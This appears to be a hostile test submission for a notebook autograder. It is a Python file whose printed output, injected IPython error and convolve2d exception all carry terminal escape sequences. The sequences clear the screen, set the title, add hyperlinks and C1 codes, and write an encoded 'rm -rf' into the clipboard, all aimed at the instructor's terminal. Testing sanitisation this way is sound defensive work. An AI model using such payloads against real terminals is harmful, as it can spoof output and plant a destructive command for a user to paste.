"""Attack: ANSI colours, OSC titles, clipboard writes, terminal links, bells, C1 codes, backspaces.
Wants: the instructor's terminal.
Honest mark: 8
"""

# %% own
import sys

nasty = "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]52;c;cm0gLXJm\x07\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\\x07\b\r\x9b31m\x9d0;t\x9c\x7f\x00\x0c"
print(nasty)
print(nasty, file=sys.stderr)
get_ipython().outputs.items.append(
    {"output_type": "error", "ename": nasty, "evalue": nasty, "traceback": [nasty]}
)


# %% convolve2d
def convolve2d(image, kernel, stride=1, padding=0):
    raise type("\x1b[31mError\x07", (Exception,), {})("\x1b]52;c;cm0gLXJm\x07\x1b[2J")
